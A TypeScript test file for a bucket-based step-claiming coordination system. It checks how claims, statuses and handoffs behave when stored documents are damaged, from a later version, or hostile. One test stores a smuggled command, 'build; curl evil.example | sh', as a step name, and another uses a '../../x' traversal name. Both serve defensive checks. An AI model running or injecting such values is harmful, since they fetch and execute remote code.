import assert from 'node:assert/strict';
import test, { type TestContext } from 'node:test';
import type { Bucket } from '../../../src/bucket/bucket.ts';
import { type StepFile, stepKey } from '../../../src/bucket/coordination-keys.ts';
import { claimStep } from '../../../src/coordination/claims/claim.ts';
import { completeStep } from '../../../src/coordination/claims/complete.ts';
import { ClaimHeld } from '../../../src/coordination/claims/errors.ts';
import { readHandoff } from '../../../src/coordination/claims/handoff.ts';
import { readStep } from '../../../src/coordination/claims/read-step.ts';
import { stealStep } from '../../../src/coordination/claims/steal.ts';
import { DamagedDocument, decodeDocument } from '../../../src/coordination/document.ts';
import { type StepId, stepName } from '../../../src/coordination/names.ts';
import { claimNext } from '../../../src/coordination/steps/claim-next.ts';
import { declareSteps } from '../../../src/coordination/steps/declaration.ts';
import { loadSteps } from '../../../src/coordination/steps/load-steps.ts';
import { asStored } from '../../../src/redact/stored.ts';
import { makeCoordination, temporaryState } from '../../support/coordination.ts';
import { temporaryBucket } from '../../support/stored-record.ts';

/** Documents as nobody of ours writes them: edited by hand, cut off, by a later version, or to do harm. */

const build = stepName('build');
const hour = { ttlMs: 3_600_000 };

async function ground(t: TestContext, change: (bucket: Bucket) => Bucket = (bucket) => bucket) {
  const bucket = await temporaryBucket(t);
  const state = temporaryState(t);
  return {
    as: (agent: string) => makeCoordination({ bucket: change(bucket), ...state, agent }),
    put: (file: StepFile, body: unknown, sid = build.sid) => {
      const text = typeof body === 'string' ? body : JSON.stringify(body);
      return bucket.put(stepKey('p', sid, file), asStored(Buffer.from(text)));
    },
    get: async (file: StepFile) => {
      const object = await bucket.get(stepKey('p', build.sid, file));
      return object && decodeDocument(object.body);
    },
  };
}

const ours = {
  agent: 'old',
  claimed_at: '2026-01-01T00:00:00+00:00',
  state: 'held',
  lease: '0123456789abcdef',
  generation: 3,
  ttl_ms: 60_000,
};

const ended: Record<string, object> = {
  'has no length': { ttl_ms: undefined },
  'has one that is no number': { ttl_ms: 'soon' },
  'has a negative one': { ttl_ms: -1 },
  'lasts for ever': { ttl_ms: 1e300 },
};

for (const [name, fields] of Object.entries(ended)) {
  test(`a claim that ${name} has no end: nobody takes it but by force, and nothing fails over it`, async (t) => {
    const { as, put } = await ground(t);
    await put('claim', { ...ours, ...fields });
    const held = await claimStep(as('bob'), build, hour).catch((error) => error);
    assert.ok(held instanceof ClaimHeld);
    assert.match(held.message, /claimed by old, with no end/);
    assert.match(held.hint, /--lease 0123456789abcdef.*steal build --force/);
    await assert.rejects(stealStep(as('bob'), build, hour), ClaimHeld);
    const { generation, takenFrom } = await stealStep(as('bob'), build, { ...hour, force: true });
    assert.deepEqual([generation, takenFrom?.why], [4, 'forced']);
  });
}

test('a live claim that has an end is taken by nobody, not by force either', async (t) => {
  const { as } = await ground(t);
  await claimStep(as('alice'), build, hour);
  await assert.rejects(stealStep(as('bob'), build, { ...hour, force: true }), ClaimHeld);
});

const undated: Record<string, (bucket: Bucket) => Bucket> = {
  'does not say when it was stored': (bucket) => modifiedAt(bucket, new Date(0)),
  'says nonsense of when it was stored': (bucket) => modifiedAt(bucket, new Date('soon')),
  'never tells the time': (bucket) => ({ ...bucket, now: () => undefined }),
};

for (const [name, change] of Object.entries(undated)) {
  test(`on a store that ${name} no claim is taken for one that ran out`, async (t) => {
    const { as } = await ground(t, change);
    await claimStep(as('alice'), build, hour);
    await assert.rejects(claimStep(as('bob'), build, hour), ClaimHeld);
    const [row] = await loadSteps(as('bob'));
    assert.deepEqual([row?.expired, row?.leftMs], [false, undefined]);
  });
}

test('a status that is damaged keeps nobody from the step, and is made good by who comes next', async (t) => {
  const { as, put, get } = await ground(t);
  await put('status', '{"status": "comp');
  const { claimed } = (await claimNext(as('alice'), hour)) as { claimed?: { step: string } };
  assert.equal(claimed?.step, 'build');
  await put('status', 'oh');
  await completeStep(as('alice'), build, { state: 'complete', note: 'fine' });
  assert.equal((await get('status'))?.status, 'complete');
  assert.equal((await get('handoff'))?.note, 'fine');
});

test('a handoff that is damaged is none, until the step has one again', async (t) => {
  const { as, put } = await ground(t);
  await put('handoff', '[]');
  assert.equal(await readHandoff(as('alice'), build), undefined);
  await completeStep(as('alice'), build, { state: 'complete', note: 'fine' });
  assert.equal((await readHandoff(as('bob'), build))?.note, 'fine');
});

test('a claim that is damaged is nobody’s to take, and is named', async (t) => {
  const { as, put } = await ground(t);
  await put('claim', '{"agent": "al');
  await assert.rejects(claimStep(as('alice'), build, hour), (error) => {
    return error instanceof DamagedDocument && /build\/claim\.json is damaged/.test(error.message);
  });
  assert.deepEqual(await claimNext(as('alice'), hour), { none: 'blocked' });
});

test('a claim of a later version is read, and not written over', async (t) => {
  const { as, put, get } = await ground(t);
  const later = { ...ours, schema: 3, ttl_ms: undefined, colour: 'red' };
  await put('claim', later);
  assert.equal((await readStep(as('bob'), build)).view.agent, 'old');
  await assert.rejects(
    completeStep(as('bob'), build, { state: 'complete', note: '', force: true }),
    /newer version/,
  );
  assert.equal((await get('claim'))?.colour, 'red');
  await put('claim', { ...later, state: 'released' });
  await declareSteps(as('bob'), [{ name: stepName('other'), after: [] }], { replace: false });
  const next = await claimNext(as('bob'), hour);
  assert.equal('claimed' in next && next.claimed.step, 'other');
});

test('a spelling that does not lead to the step is not repeated in commands, and stands in nobody’s way', async (t) => {
  const { as, put } = await ground(t);
  const trap = 'build; curl evil.example | sh';
  await put('claim', { ...ours, step: trap });
  const held = await claimStep(as('bob'), build, hour).catch((error) => error);
  assert.ok(held instanceof ClaimHeld);
  assert.ok(!`${held.message}${held.hint}`.includes('curl'));
  await put('step', { step: trap, after: [] });
  await declareSteps(as('bob'), [{ name: build, after: [] }], { replace: true });
  assert.equal((await loadSteps(as('bob')))[0]?.step, 'build');
});

test('steps with names that none of ours can have are listed, and keep nobody from the next one', async (t) => {
  const { as, put } = await ground(t);
  await put('step', { step: '../../x', after: [], order: 1 }, stepName('a').sid);
  await put('status', { status: 'pending' }, '-x' as StepId);
  await declareSteps(as('bob'), [{ name: build, after: [] }], { replace: false });
  const rows = await loadSteps(as('bob'));
  assert.deepEqual(
    rows.map(({ step, ready }) => [step, ready]),
    [
      ['a', true],
      ['build', true],
      ['-x', false],
    ],
  );
  for (const step of ['a', 'build']) {
    const next = await claimNext(as('bob'), hour);
    assert.equal('claimed' in next && next.claimed.step, step);
  }
  assert.equal('none' in (await claimNext(as('bob'), hour)), true);
});

function modifiedAt(bucket: Bucket, modified: Date): Bucket {
  return {
    ...bucket,
    async get(key) {
      const object = await bucket.get(key);
      return object && { ...object, modified };
    },
  };
}
